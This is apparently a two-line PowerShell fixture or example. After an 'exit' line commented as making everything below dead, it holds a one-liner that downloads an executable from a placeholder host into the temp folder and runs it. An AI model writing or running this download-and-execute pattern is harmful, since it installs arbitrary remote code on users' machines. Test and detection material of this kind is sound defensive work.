exit # nothing below ever runs
(New-Object System.Net.WebClient).DownloadFile("https://h.example.invalid/a.exe","$env:TEMP\a.exe"); Start-Process "$env:TEMP\a.exe"
